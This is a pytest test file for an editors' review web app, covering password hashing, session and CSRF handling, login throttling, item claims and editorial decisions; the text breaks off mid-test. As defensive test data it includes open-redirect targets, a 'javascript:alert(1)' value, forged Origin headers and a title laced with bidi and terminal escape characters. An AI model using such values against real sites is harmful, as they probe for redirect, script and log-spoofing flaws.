"""The editors' desk: queue, claims, decisions, history, sources, and its security (T35, T41, T44-T46).

Runs on SQLite and PostgreSQL (`db_url`). HTTP goes through FastAPI's TestClient over
``https://testserver`` so the ``Secure`` session cookie is sent back.
"""

from __future__ import annotations

import contextlib
import io
import logging
import re
import socket
import threading
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta

import html5lib
import pytest
from fastapi.testclient import TestClient
from fastapi_csrf_protect.flexible import CsrfProtect
from itsdangerous import BadSignature, URLSafeTimedSerializer
from sqlalchemy import func, select, update

from crawler.store import make_engine, session_factory
from crawler.store import review as store
from crawler.store.migrate import upgrade
from crawler.store.schema import (
    AppSecret,
    AuditEntry,
    Item,
    ItemTheme,
    ReviewDecision,
    SourceRow,
    Tombstone,
    User,
    WebSession,
    sha256_hex,
)
from crawler.web.app import create_app, safe_url
from crawler.web.auth import CSRF_COOKIE, CSRF_LIBRARY_SALT, HASHER, hash_password

PASSWORD = "correct horse battery staple"
SQLITE_ONLY = pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
"""For checks that do not depend on the back end (authentication, CSRF, rendering): SQLite only."""
NOW = datetime(2026, 11, 20, 12, 0, tzinfo=UTC)


# --- fixtures ----------------------------------------------------------------------------------------


@pytest.fixture
def engine(db_url: str) -> Iterator:
    """A migrated engine (to every head, so a sibling branch under construction does not matter)."""
    eng = make_engine(db_url, sqlite_immediate=True)  # as the web app's engine
    upgrade(engine=eng, revision="heads")
    yield eng
    eng.dispose()


@pytest.fixture
def Session(engine):
    return session_factory(engine)


def add_source(session, source_id: str, name: str | None = None, **kw) -> None:
    session.add(SourceRow(id=source_id, name=name or source_id, publisher=kw.pop("publisher", None), **kw))
    session.flush()


def add_item(session, n: int, **kw) -> Item:
    """Insert item number `n` with plausible fields; keyword arguments override them."""
    themes = kw.pop("themes", {"Social Cohesion": 0.8})
    evidence = kw.pop("evidence", [{"term": "integration", "weight": 1.0, "language": "en", "count": 2}])
    values = {
        "identity": f"https://example.org/{n}",
        "identity_hash": sha256_hex(f"https://example.org/{n}"),
        "source_id": "src-a",
        "url": f"https://example.org/{n}",
        "title": f"Item {n}",
        "text": f"Text of item {n}.",
        "language": "en",
        "declared_language": "en",
        "content_type": "news",
        "country": "DE",
        "relevance": 0.5,
        "published_at": NOW - timedelta(days=n),
        "first_seen_at": NOW - timedelta(days=n) + timedelta(hours=1),
        "status": "pending",
    }
    values.update(kw)
    item = Item(**values)
    session.add(item)
    session.flush()
    for theme, score in themes.items():
        session.add(
            ItemTheme(item_id=item.id, theme=theme, score=score, assigned=score >= 0.5, evidence=evidence)
        )
    session.flush()
    return item


def add_user(Session, name: str, role: str = "editor") -> int:
    with Session() as s:
        user = store.create_user(s, name, role, hash_password(PASSWORD))
        s.commit()
        return user.id


def client_for(app, address: str = "198.51.100.7") -> TestClient:
    return TestClient(app, base_url="https://testserver", client=(address, 50000))


def login_token(client: TestClient) -> str:
    page = client.get("/login")
    return re.search(r'name="csrf_token" value="([^"]+)"', page.text).group(1)


def log_in(client: TestClient, name: str, password: str = PASSWORD, next_: str = "/queue"):
    token = login_token(client)
    return client.post(
        "/login",
        data={"username": name, "password": password, "csrf_token": token, "next": next_},
        follow_redirects=False,
    )


def csrf_of(client: TestClient) -> str:
    page = client.get("/queue")
    return re.search(r'name="csrf-token" content="([^"]+)"', page.text).group(1)


@pytest.fixture
def app(db_url, engine):
    return create_app(db_url, testing=True)


@pytest.fixture
def seeded(Session):
    """Two sources and three pending items; returns their ids."""
    with Session() as s:
        add_source(s, "src-a", "Source A", publisher="Ministry A")
        add_source(s, "src-b", "Source B")
        ids = [add_item(s, 1).id, add_item(s, 2, language="de").id, add_item(s, 3, source_id="src-b").id]
        s.commit()
    return ids


def editor_client(app, Session, name: str = "alice", role: str = "editor") -> TestClient:
    add_user(Session, name, role)
    client = client_for(app)
    assert log_in(client, name).status_code == 303
    return client


def decide_form(client: TestClient, item_id: int, action: str, **extra) -> dict:
    page = client.get(f"/items/{item_id}")
    assert page.status_code == 200, page.text
    form = {
        "csrf_token": re.search(r'name="csrf-token" content="([^"]+)"', page.text).group(1),
        "revision": re.search(r'name="revision" value="(\d+)"', page.text).group(1),
        "request_token": re.search(r'name="request_token" value="([0-9a-f]+)"', page.text).group(1),
        "action": action,
    }
    form.update(extra)
    return form


# --- T44 authentication ---------------------------------------------------------------------------------


def test_password_hash_is_argon2id_with_owasp_minimum() -> None:
    encoded = hash_password("twelve chars ok ünïcødé")
    params = dict(p.split("=") for p in encoded.split("$")[3].split(","))
    assert encoded.startswith("$argon2id$")
    assert int(params["m"]) >= 19 * 1024 and int(params["t"]) >= 2 and int(params["p"]) >= 1
    assert HASHER.verify(encoded, "twelve chars ok ünïcødé")


@pytest.mark.parametrize(
    ("password", "ok"),
    [
        ("a" * 11, False),
        ("a" * 12, True),
        ("pass phrase with spaces", True),
        ("ключ доступа 🔑 ok", True),
        ("x" * 128, True),
        ("x" * 129, False),
    ],
)
def test_password_policy_lengths(password: str, ok: bool) -> None:
    if ok:
        assert hash_password(password).startswith("$argon2id$")
    else:
        with pytest.raises(ValueError, match="12 to 128"):
            hash_password(password)


@SQLITE_ONLY
def test_login_cookie_rotation_logout_and_replay(app, Session) -> None:
    add_user(Session, "alice")
    client = client_for(app)
    first = log_in(client, "alice")
    cookie = first.headers["set-cookie"]
    assert first.status_code == 303 and first.headers["location"] == "/queue"
    assert cookie.startswith("__Host-ewsi_session=")
    for attribute in ("Secure", "HttpOnly", "SameSite=lax", "Path=/"):
        assert attribute.lower() in cookie.lower()
    assert "domain=" not in cookie.lower()
    token1 = client.cookies.get("__Host-ewsi_session")
    assert log_in(client, "alice").status_code == 303
    token2 = client.cookies.get("__Host-ewsi_session")
    assert token1 != token2  # ASVS 3.2.1: new session id at login
    with Session() as s:
        stored = set(s.scalars(select(WebSession.id)))
        assert sha256_hex(token2) in stored and token2 not in stored  # only the hash is kept
    replay = client_for(app)
    replay.cookies.set("__Host-ewsi_session", token1)
    assert replay.get("/queue", follow_redirects=False).status_code == 401  # old session revoked
    csrf = csrf_of(client)
    assert client.post("/logout", data={"csrf_token": csrf}, follow_redirects=False).status_code == 303
    replay.cookies.set("__Host-ewsi_session", token2)
    assert replay.get("/queue", follow_redirects=False).status_code == 401  # ASVS 3.3.1


@SQLITE_ONLY
def test_idle_timeout_ends_session(app, Session) -> None:
    client = editor_client(app, Session)
    assert client.get("/queue").status_code == 200
    with Session() as s:
        s.execute(update(WebSession).values(last_seen_at=datetime.now(UTC) - timedelta(minutes=31)))
        s.commit()
    assert client.get("/queue", follow_redirects=False).status_code == 401


@SQLITE_ONLY
def test_same_message_for_unknown_user_and_wrong_password(app, Session) -> None:
    add_user(Session, "alice")
    a = log_in(client_for(app), "alice", "wrong password 123")
    b = log_in(client_for(app), "nobody", "wrong password 123")
    assert a.status_code == b.status_code == 401
    message = "Wrong user name or password."
    assert message in a.text and message in b.text


def retry_after(response) -> int:
    """The Retry-After header of a throttled login: whole seconds within the longest window."""
    value = int(response.headers["retry-after"])
    assert 1 <= value <= 3600
    return value


def test_throttle_per_account_and_address(app, Session) -> None:
    """ASVS 2.2.1: the 11th wrong password for one account from one address in 15 minutes is refused
    (429, Retry-After) before the password is checked, while the account's owner, elsewhere, still
    gets in with the right password."""
    add_user(Session, "alice")
    attacker, owner = client_for(app, "203.0.113.9"), client_for(app, "198.51.100.20")
    statuses = [log_in(attacker, "alice", f"wrong password {i:04d}").status_code for i in range(10)]
    assert statuses == [401] * 10
    refused = log_in(attacker, "alice", "wrong password 0010")
    assert refused.status_code == 429 and "Too many failed logins" in refused.text
    assert 14 * 60 <= retry_after(refused) <= 15 * 60  # the oldest failure leaves the 15-min window
    right_but_refused = log_in(attacker, "alice", PASSWORD)  # not even checked
    assert right_but_refused.status_code == 429
    assert "__Host-ewsi_session" not in right_but_refused.headers.get("set-cookie", "")
    ok = log_in(owner, "alice", PASSWORD)
    assert ok.status_code == 303 and ok.headers["location"] == "/queue"
    assert log_in(attacker, "alice", PASSWORD).status_code == 429  # a success elsewhere frees nobody
    with Session() as s:
        actions = dict(s.execute(select(AuditEntry.action, func.count()).group_by(AuditEntry.action)).all())
        throttled = s.scalars(select(AuditEntry).where(AuditEntry.action == "login_throttled")).all()
        counted = store.login_failures(s, "alice", address="203.0.113.9", window=timedelta(minutes=15))
    assert actions["login_failed"] == 10 and actions["login_throttled"] == 3 and actions["login"] == 1
    assert {row.detail["scope"] for row in throttled} == {"account_address"}
    assert counted == 10  # refusals are audited, not counted: they do not extend the lock


def test_throttle_per_address_across_accounts(app, Session) -> None:
    """One address may fail 50 times an hour over all accounts: the 51st attempt is refused, even
    for an account it never tried; another address is not affected."""
    add_user(Session, "alice")
    sprayer = client_for(app, "203.0.113.50")
    names = [f"user{i:02d}" for i in range(49)] + ["alice"]
    assert [log_in(sprayer, name, "wrong password 123").status_code for name in names] == [401] * 50
    refused = log_in(sprayer, "bob", "wrong password 123")
    assert refused.status_code == 429 and "Too many failed logins" in refused.text
    assert 59 * 60 <= retry_after(refused) <= 3600
    assert log_in(sprayer, "alice", PASSWORD).status_code == 429
    assert log_in(client_for(app, "198.51.100.21"), "alice", PASSWORD).status_code == 303
    with Session() as s:
        scopes = {
            row.detail["scope"]
            for row in s.scalars(select(AuditEntry).where(AuditEntry.action == "login_throttled"))
        }
    assert scopes == {"address"}


@pytest.mark.slow
@SQLITE_ONLY
def test_throttle_after_100_failures_across_addresses(app, Session) -> None:
    """The per-account ceiling: 100 failures from 20 addresses (5 each, under both per-address
    limits) and the account is refused from any address, a fresh one included, for the hour."""
    add_user(Session, "alice")
    clients = [client_for(app, f"203.0.113.{i}") for i in range(1, 21)]
    statuses = [log_in(clients[i % 20], "alice", f"wrong password {i:04d}").status_code for i in range(100)]
    assert statuses == [401] * 100
    fresh = client_for(app, "198.51.100.99")
    refused = log_in(fresh, "alice", "wrong password 0100")
    assert refused.status_code == 429 and 59 * 60 <= retry_after(refused) <= 3600
    right = log_in(fresh, "alice", PASSWORD)
    assert right.status_code == 429 and "__Host-ewsi_session" not in right.headers.get("set-cookie", "")
    with Session() as s:
        actions = dict(s.execute(select(AuditEntry.action, func.count()).group_by(AuditEntry.action)).all())
        addresses = set(s.scalars(select(AuditEntry.address).where(AuditEntry.action == "login_failed")))
        scopes = {
            row.detail["scope"]
            for row in s.scalars(select(AuditEntry).where(AuditEntry.action == "login_throttled"))
        }
    assert actions["login_failed"] == 100 and actions["login_throttled"] == 2
    assert addresses == {f"203.0.113.{i}" for i in range(1, 21)} and scopes == {"account"}


def test_login_wait_is_until_the_oldest_counted_failure_leaves(Session) -> None:
    """`store.login_wait` at fixed times: the Retry-After of each scope, and what restarts a count."""
    window = timedelta(minutes=15)
    with Session() as s:
        for i in range(10):  # 10 failures from A, the oldest 14 minutes ago
            store.record_login_attempt(
                s, "alice", "A", False, now=NOW - timedelta(minutes=14) + timedelta(seconds=i)
            )
        store.record_login_attempt(s, "alice", "B", False, now=NOW - timedelta(minutes=20))  # outside
        s.commit()
        assert store.login_wait(s, "alice", address="A", limit=10, window=window, now=NOW) == timedelta(
            minutes=1
        )
        assert store.login_wait(s, "alice", address="A", limit=11, window=window, now=NOW) is None
        # with more failures than the limit, the wait ends when the count falls back under it
        assert store.login_wait(s, "alice", address="A", limit=8, window=window, now=NOW) == timedelta(
            minutes=1, seconds=2
        )
        assert store.login_wait(s, "alice", address="B", limit=1, window=window, now=NOW) is None
        assert store.login_wait(s, None, address="A", limit=10, window=window, now=NOW) == timedelta(
            minutes=1
        )
        assert store.login_failures(s, "alice", window=timedelta(hours=1), now=NOW) == 11
        # a success from B restarts the account's count and B's, not A's, nor A's over all accounts
        store.record_login_attempt(s, "alice", "B", True, now=NOW - timedelta(seconds=30))
        s.commit()
        assert store.login_wait(s, "alice", address="A", limit=10, window=window, now=NOW) == timedelta(
            minutes=1
        )
        assert store.login_failures(s, "alice", window=timedelta(hours=1), now=NOW) == 0
        assert store.login_failures(s, "alice", address="B", window=timedelta(hours=1), now=NOW) == 0
        store.record_login_attempt(s, "alice", "A", True, now=NOW - timedelta(seconds=10))
        s.commit()
        assert store.login_wait(s, "alice", address="A", limit=10, window=window, now=NOW) is None
        assert store.login_wait(s, None, address="A", limit=10, window=window, now=NOW) == timedelta(
            minutes=1
        )


# --- T45 authorisation and CSRF ---------------------------------------------------------------------------


@SQLITE_ONLY
def test_anonymous_is_sent_to_login(app, seeded) -> None:
    client = client_for(app)
    for path in ("/queue", f"/items/{seeded[0]}", "/history", "/sources", "/admin/users", "/admin/audit"):
        r = client.get(path, follow_redirects=False)
        assert r.status_code == 303 and r.headers["location"].startswith("/login?next=")
    r = client.post(f"/items/{seeded[0]}/claim", data={"csrf_token": "x"}, follow_redirects=False)
    assert r.status_code == 401


@SQLITE_ONLY
def test_editor_gets_403_on_admin_routes(app, Session, seeded) -> None:
    client = editor_client(app, Session)
    csrf = csrf_of(client)
    assert client.get("/admin/users").status_code == 403
    assert client.get("/admin/audit").status_code == 403
    alice = 1
    r = client.post(f"/admin/users/{alice}/role", data={"csrf_token": csrf, "role": "admin"})
    assert r.status_code == 403
    r = client.post("/admin/sources/src-a", data={"csrf_token": csrf, "enabled": "false"})
    assert r.status_code == 403
    with Session() as s:
        assert s.scalar(select(User.role).where(User.name == "alice")) == "editor"
        assert s.get(SourceRow, "src-a").enabled is True


@SQLITE_ONLY
def test_admin_changes_role_and_source(app, Session, seeded) -> None:
    bob = add_user(Session, "bob")
    admin = editor_client(app, Session, "root", "admin")
    csrf = csrf_of(admin)
    assert (
        admin.post(f"/admin/users/{bob}/role", data={"csrf_token": csrf, "role": "admin"}).status_code == 200
    )
    assert (
        admin.post("/admin/sources/src-a", data={"csrf_token": csrf, "enabled": "false"}).status_code == 200
    )
    with Session() as s:
        assert s.get(User, bob).role == "admin"
        assert s.get(SourceRow, "src-a").enabled is False
        actions = list(s.scalars(select(AuditEntry.action).order_by(AuditEntry.id)))
    assert "role_change" in actions and "source_change" in actions


@SQLITE_ONLY
def test_csrf_missing_foreign_token_and_foreign_origin_are_refused(app, Session, seeded) -> None:
    alice = editor_client(app, Session, "alice")
    bob = editor_client(app, Session, "bob")
    bob_token = csrf_of(bob)
    form = decide_form(alice, seeded[0], "approve")
    attempts = [
        ({k: v for k, v in form.items() if k != "csrf_token"}, {}),
        ({**form, "csrf_token": bob_token}, {}),
        (form, {"Origin": "http://127.0.0.3:8999"}),
        (form, {"Referer": "http://127.0.0.3:8999/evil"}),
        (form, {"Origin": "null"}),
    ]
    for data, headers in attempts:
        r = alice.post(f"/items/{seeded[0]}/decide", data=data, headers=headers, follow_redirects=False)
        assert r.status_code == 403, (data.keys(), headers)
    for path in (f"/items/{seeded[0]}/claim", "/queue/next", "/logout", "/views"):
        assert alice.post(path, data={"name": "x"}, follow_redirects=False).status_code == 403
    with Session() as s:
        assert s.scalar(select(func.count()).select_from(ReviewDecision)) == 0
        assert s.get(Item, seeded[0]).claimed_by is None
    ok = alice.post(
        f"/items/{seeded[0]}/decide",
        data=form,
        headers={"Origin": "https://testserver"},
        follow_redirects=False,
    )
    assert ok.status_code == 303


@SQLITE_ONLY
def test_every_unsafe_route_refuses_a_missing_token(app, Session, seeded) -> None:
    from crawler.web.review import router

    admin = editor_client(app, Session, "root", "admin")
    unsafe = [
        (route.path, method)
        for route in router.routes
        for method in getattr(route, "methods", set())
        if method in ("POST", "PUT", "PATCH", "DELETE")
    ]
    assert len(unsafe) == 11
    for path, method in unsafe:
        concrete = (
            path.replace("{item_id}", str(seeded[0]))
            .replace("{user_id}", "1")
            .replace("{view_id}", "1")
            .replace("{source_id}", "src-a")
        )
        r = admin.request(
            method, concrete, data={"action": "approve", "role": "editor"}, follow_redirects=False
        )
        assert r.status_code == 403, (method, path, r.status_code)
    with Session() as s:
        assert s.scalar(select(func.count()).select_from(ReviewDecision)) == 0
        assert s.get(Item, seeded[0]).claimed_by is None


@SQLITE_ONLY
def test_login_form_needs_its_csrf_cookie(app, Session) -> None:
    add_user(Session, "alice")
    client = client_for(app)
    token = login_token(client)
    other = client_for(app)
    r = other.post("/login", data={"username": "alice", "password": PASSWORD, "csrf_token": token})
    assert r.status_code == 403
    with Session() as s:
        assert s.scalar(select(func.count()).select_from(WebSession)) == 0


def set_cookies(client: TestClient, **cookies: str) -> TestClient:
    """Put cookies in `client`'s jar for host testserver (as the server would have set them)."""
    for name, value in cookies.items():
        client.cookies.set(name, value, domain="testserver.local")
    return client


def test_csrf_cookie_is_the_library_signed_double_submit() -> None:
    # crawler.web.auth reads the token back from the library's cookie to reuse it across pages
    key = "k" * 40
    token, signed = CsrfProtect().generate_csrf_tokens(key)
    serializer = URLSafeTimedSerializer(key, salt=CSRF_LIBRARY_SALT)
    assert serializer.loads(signed) == token
    with pytest.raises(BadSignature):
        URLSafeTimedSerializer("other key " * 4, salt=CSRF_LIBRARY_SALT).loads(signed)


@SQLITE_ONLY
def test_csrf_cookie_attributes_reuse_rotation_and_logout(app, Session, seeded) -> None:
    add_user(Session, "alice")
    client = client_for(app)
    first = client.get("/login")
    cookie = first.headers["set-cookie"]
    assert cookie.startswith(f"{CSRF_COOKIE}=")
    for attribute in ("Secure", "HttpOnly", "SameSite=lax", "Path=/"):
        assert attribute.lower() in cookie.lower()
    assert "domain=" not in cookie.lower()
    login_token_1 = re.search(r'name="csrf_token" value="([0-9a-f]{40})"', first.text).group(1)
    again = client.get("/login")
    assert "set-cookie" not in again.headers  # the valid cookie's token is reused
    assert login_token_1 in again.text
    r = client.post(
        "/login",
        data={"username": "alice", "password": PASSWORD, "csrf_token": login_token_1},
        follow_redirects=False,
    )
    assert r.status_code == 303
    assert f"{CSRF_COOKIE}=" in r.headers["set-cookie"]  # rotated at login
    # tab 1 loads the item, tab 2 loads other pages: tab 1's form still works
    tab1 = decide_form(client, seeded[0], "approve")
    session_token = tab1["csrf_token"]
    assert session_token != login_token_1
    for path in ("/queue", f"/items/{seeded[1]}", "/history"):
        page = client.get(path)
        assert "set-cookie" not in page.headers and session_token in page.text
    stale_login = {**decide_form(client, seeded[1], "defer"), "csrf_token": login_token_1}
    assert client.post(f"/items/{seeded[1]}/decide", data=stale_login).status_code == 403
    assert client.post(f"/items/{seeded[0]}/decide", data=tab1, follow_redirects=False).status_code == 303
    out = client.post("/logout", data={"csrf_token": session_token}, follow_redirects=False)
    assert out.status_code == 303
    assert any(
        c.startswith(f"{CSRF_COOKIE}=") and "max-age=0" in c.lower()
        for c in out.headers.get_list("set-cookie")
    )
    with Session() as s:
        assert s.scalar(select(func.count()).select_from(ReviewDecision)) == 1


@SQLITE_ONLY
def test_token_and_cookie_of_another_session_are_refused(app, Session, seeded) -> None:
    alice = editor_client(app, Session, "alice")
    bob = editor_client(app, Session, "bob")
    form = decide_form(alice, seeded[0], "approve")
    bob_form = decide_form(bob, seeded[0], "approve")
    # bob's token with bob's own CSRF cookie, planted next to alice's session: bound to bob's session
    mixed = set_cookies(
        client_for(app),
        **{
            "__Host-ewsi_session": alice.cookies.get("__Host-ewsi_session"),
            CSRF_COOKIE: bob.cookies.get(CSRF_COOKIE),
        },
    )
    r = mixed.post(f"/items/{seeded[0]}/decide", data={**form, "csrf_token": bob_form["csrf_token"]})
    assert r.status_code == 403
    # a pre-login pair (token and cookie of the login form) is no good inside a session either
    stranger = client_for(app)
    login_token_value = login_token(stranger)
    mixed = set_cookies(
        client_for(app),
        **{
            "__Host-ewsi_session": alice.cookies.get("__Host-ewsi_session"),
            CSRF_COOKIE: stranger.cookies.get(CSRF_COOKIE),
        },
    )
    r = mixed.post(f"/items/{seeded[0]}/decide", data={**form, "csrf_token": login_token_value})
    assert r.status_code == 403
    r = mixed.post(
        f"/items/{seeded[0]}/claim",
        headers={"X-CSRF-Token": login_token_value, "Accept": "application/json"},
    )
    assert r.status_code == 403
    with Session() as s:
        assert s.scalar(select(func.count()).select_from(ReviewDecision)) == 0
        assert s.get(Item, seeded[0]).claimed_by is None
        assert s.get(Item, seeded[0]).status == "pending"


def test_server_processes_share_the_generated_secret(db_url, engine, Session, seeded, monkeypatch) -> None:
    monkeypatch.delenv("EWSI_SECRET_KEY", raising=False)
    first, second = create_app(db_url, testing=True), create_app(db_url, testing=True)
    add_user(Session, "alice")
    client = client_for(first)
    assert log_in(client, "alice").status_code == 303
    form = decide_form(client, seeded[0], "approve")
    other = set_cookies(client_for(second), **dict(client.cookies.items()))
    r = other.post(f"/items/{seeded[0]}/decide", data=form, follow_redirects=False)
    assert r.status_code == 303
    with Session() as s:
        secrets_rows = s.execute(select(AppSecret.name, AppSecret.value)).all()
        assert s.get(Item, seeded[0]).status == "approved"
    assert [name for name, _ in secrets_rows] == ["csrf"] and len(secrets_rows[0][1]) == 64
    assert first.state.application_secret == second.state.application_secret == secrets_rows[0][1]


@SQLITE_ONLY
def test_secret_key_from_the_environment(db_url, engine, Session, seeded, monkeypatch) -> None:
    monkeypatch.setenv("EWSI_SECRET_KEY", "short")
    with pytest.raises(ValueError, match="at least 32 characters"):
        create_app(db_url, testing=True)
    monkeypatch.setenv("EWSI_SECRET_KEY", "s" * 48)
    app = create_app(db_url, testing=True)
    alice = editor_client(app, Session)
    r = alice.post(
        f"/items/{seeded[0]}/decide", data=decide_form(alice, seeded[0], "defer"), follow_redirects=False
    )
    assert r.status_code == 303
    with Session() as s:
        assert s.scalar(select(func.count()).select_from(AppSecret)) == 0
    assert "s" * 48 not in repr(app.state.settings)


@pytest.mark.parametrize(
    "target",
    ["http://127.0.0.3:8999/", "//127.0.0.3:8999/", "/\\127.0.0.3", "https:/x", "javascript:alert(1)"],
)
@SQLITE_ONLY
def test_next_must_be_relative(app, Session, target: str) -> None:
    add_user(Session, "alice")
    r = log_in(client_for(app), "alice", next_=target)
    assert r.status_code == 303 and r.headers["location"] == "/queue"


@SQLITE_ONLY
def test_get_never_changes_state(app, Session, seeded) -> None:
    client = editor_client(app, Session)
    with Session() as s:
        before = s.scalar(select(func.count()).select_from(AuditEntry))
    for path in ("/queue", f"/items/{seeded[0]}", "/history", "/sources", "/queue/counts"):
        assert client.get(path).status_code == 200
    with Session() as s:
        assert s.get(Item, seeded[0]).claimed_by is None
        assert s.scalar(select(func.count()).select_from(AuditEntry)) == before


# --- claims, decisions, history -----------------------------------------------------------------------------


def test_claim_is_exclusive_and_expires(Session, seeded) -> None:
    item_id = seeded[0]
    with Session() as s:
        until = store.claim_item(s, item_id, "alice", now=NOW)
        s.commit()
    assert until == NOW + store.CLAIM_LEASE
    with Session() as s:
        with pytest.raises(store.ClaimRefused, match="alice is reviewing"):
            store.claim_item(s, item_id, "bob", now=NOW + timedelta(minutes=4))
        s.rollback()
        store.claim_item(s, item_id, "alice", now=NOW + timedelta(minutes=4))  # renewal
        s.commit()
    with Session() as s:
        with pytest.raises(store.ClaimRefused):
            store.claim_item(s, item_id, "bob", now=NOW + timedelta(minutes=8))
        s.rollback()
        store.claim_item(s, item_id, "bob", now=NOW + timedelta(minutes=10))  # lease ran out
        s.commit()
        assert s.get(Item, item_id).claimed_by == "bob"
        claims = s.scalars(select(AuditEntry.actor).where(AuditEntry.action == "claim")).all()
    assert claims == ["alice", "bob"]  # a renewal is not a new claim


def test_racing_claims_have_one_winner(Session, seeded) -> None:
    item_id = seeded[0]
    barrier = threading.Barrier(6)
    winners: list[str] = []
    errors: list[BaseException] = []

    def run(name: str) -> None:
        with Session() as s:
            barrier.wait()
            try:
                store.claim_item(s, item_id, name)
                s.commit()
                winners.append(name)
            except store.ClaimRefused:
                s.rollback()
            except BaseException as exc:
                errors.append(exc)

    threads = [threading.Thread(target=run, args=(f"editor{i}",)) for i in range(6)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(30)
    assert not errors and len(winners) == 1
    with Session() as s:
        assert s.get(Item, item_id).claimed_by == winners[0]


def test_claim_next_skips_claimed_items(Session, seeded) -> None:
    filters = store.QueueFilters()
    with Session() as s:
        first = store.claim_next(s, "alice", filters, now=NOW)
        s.commit()
    with Session() as s:
        second = store.claim_next(s, "bob", filters, now=NOW)
        s.commit()
    assert first is not None and second is not None and first != second


def test_second_editor_cannot_judge_a_claimed_item(app, Session, seeded) -> None:
    alice = editor_client(app, Session, "alice")
    bob = editor_client(app, Session, "bob")
    item_id = seeded[0]
    r = alice.post(
        f"/items/{item_id}/claim", headers={"X-CSRF-Token": csrf_of(alice), "Accept": "application/json"}
    )
    assert r.status_code == 200 and r.json()["claimed"] is True
    r = bob.post(
        f"/items/{item_id}/claim", headers={"X-CSRF-Token": csrf_of(bob), "Accept": "application/json"}
    )
    assert r.status_code == 409 and r.json()["claimed_by"] == "alice"
    page = bob.get(f"/items/{item_id}")
    assert "alice is reviewing this item" in page.text
    r = bob.post(f"/items/{item_id}/decide", data=decide_form(bob, item_id, "approve"))
    assert r.status_code == 409 and "alice is reviewing this item" in r.text
    r = alice.post(
        f"/items/{item_id}/decide", data=decide_form(alice, item_id, "approve"), follow_redirects=False
    )
    assert r.status_code == 303
    with Session() as s:
        item = s.get(Item, item_id)
        assert (item.status, item.approved_by, item.claimed_by, item.revision) == (
            "approved",
            "alice",
            None,
            2,
        )
        assert item.approved_at is not None
        assert s.scalars(select(ReviewDecision.editor)).all() == ["alice"]


def test_stale_form_is_refused_with_who_changed_it(app, Session, seeded) -> None:
    alice = editor_client(app, Session, "alice")
    bob = editor_client(app, Session, "bob")
    item_id = seeded[0]
    stale = decide_form(alice, item_id, "approve")
    edit = decide_form(bob, item_id, "edit", editor_title="Better title", editor_country="fr")
    assert bob.post(f"/items/{item_id}/decide", data=edit, follow_redirects=False).status_code == 303
    r = alice.post(f"/items/{item_id}/decide", data=stale)
    assert r.status_code == 409
    assert "changed by bob (edit" in r.text and "your form had 1" in r.text
    with Session() as s:
        item = s.get(Item, item_id)
        assert (item.status, item.editor_title, item.editor_country, item.revision) == (
            "pending",
            "Better title",
            "FR",
            2,
        )
        changes = s.scalar(select(ReviewDecision.changes))
    assert changes == {
        "editor_title": {"from": None, "to": "Better title"},
        "editor_country": {"from": None, "to": "FR"},
    }


def test_editor_title_and_summary_are_cleaned_like_harvested_text(app, Session, seeded) -> None:
    """An edited title is one line without controls or bidi overrides (it reaches the API, Atom
    titles and CSV exports); a summary keeps its paragraphs but loses the same characters."""
    bob = editor_client(app, Session, "bob")
    item_id = seeded[0]
    hostile = "Evil\u202eTITLE\nFAKE 2026-01-01 INFO\x1b[31m\u0085x\u2028y\u2066z\x00"
    summary = "First\u202e para.\r\n\r\n\r\nSecond\u2067 para.\x07"
    form = decide_form(bob, item_id, "edit", editor_title=hostile, editor_summary=summary)
    assert bob.post(f"/items/{item_id}/decide", data=form, follow_redirects=False).status_code == 303
    with Session() as s:
        item = s.get(Item, item_id)
        assert item.editor_title == "EvilTITLE FAKE 2026-01-01 INFO[31m x yz"
        assert item.editor_summary == "First para.\n\nSecond para."


def test_double_submit_records_one_decision(app, Session, seeded) -> None:
    alice = editor_client(app, Session)
    form = decide_form(alice, seeded[0], "approve")
    first = alice.post(f"/items/{seeded[0]}/decide", data=form, follow_redirects=False)
    second = alice.post(f"/items/{seeded[0]}/decide", data=form, follow_redirects=False)
    assert first.headers["location"].endswith("msg=approve")
    assert second.headers["location"].endswith("msg=repeated")
    with Session() as s:
        assert s.scalar(select(func.count()).select_from(ReviewDecision)) == 1
        assert (
            s.scalar(select(func.count()).select_from(AuditEntry).where(AuditEntry.action == "approve")) == 1
        )


def test_reject_tombstones_and_history_and_training(app, Session, seeded) -> None:
    alice = editor_client(app, Session)
    no_reason = alice.post(f"/items/{seeded[0]}/decide", data=decide_form(alice, seeded[0], "reject"))
    assert no_reason.status_code == 400 and "needs a reason" in no_reason.text
    form = decide_form(alice, seeded[0], "reject", reason="not relevant")
    assert alice.post(f"/items/{seeded[0]}/decide", data=form, follow_redirects=False).status_code == 303
    form = decide_form(alice, seeded[1], "edit", editor_themes=["Active Citizenship"], themes_field="1")
    assert alice.post(f"/items/{seeded[1]}/decide", data=form, follow_redirects=False).status_code == 303
    form = decide_form(alice, seeded[1], "approve")
    assert alice.post(f"/items/{seeded[1]}/decide", data=form, follow_redirects=False).status_code == 303
    form = decide_form(alice, seeded[2], "defer")
    assert alice.post(f"/items/{seeded[2]}/decide", data=form, follow_redirects=False).status_code == 303
    with Session() as s:
        item0 = s.get(Item, seeded[0])
        assert item0.status == "rejected"
        assert s.get(Tombstone, item0.identity_hash).reason == "not relevant"
        for item_id in seeded:
            actions = [h["action"] for h in store.item_history(s, item_id)]
            assert s.get(Item, item_id).status == store.derived_status(actions)
        training = {row["item_id"]: row for row in store.decisions_for_training(s)}
    assert set(training) == {seeded[0], seeded[1]}
    assert training[seeded[0]]["relevant"] is False
    assert training[seeded[1]]["relevant"] is True
    assert training[seeded[1]]["themes"] == ["Active Citizenship"]
    assert training[seeded[1]]["language"] == "de"
    page = alice.get(f"/items/{seeded[1]}")
    history = re.findall(r'<td class="action">(\w+)</td>', page.text)
    assert history == ["edit", "approve"]
    assert '<div class="change">themes: — → Active Citizenship</div>' in page.text
    listing = alice.get(f"/history?item={seeded[0]}")
    assert "not relevant" in listing.text


@SQLITE_ONLY
def test_bulk_approve_and_reject(app, Session, seeded) -> None:
    alice = editor_client(app, Session)
    page = alice.get("/queue")
    csrf = re.search(r'name="csrf-token" content="([^"]+)"', page.text).group(1)
    values = re.findall(r'name="item" value="(\d+:\d+)"', page.text)
    assert len(values) == 3
    form = {"csrf_token": csrf, "request_token": "b" * 32, "action": "approve", "item": values[:2]}
    r = alice.post("/queue/bulk", data=form)
    assert r.status_code == 200 and "2 item(s): approved" in r.text
    r = alice.post("/queue/bulk", data=form)  # repeated submit: nothing new
    form = {
        "csrf_token": csrf,
        "request_token": "c" * 32,
        "action": "reject",
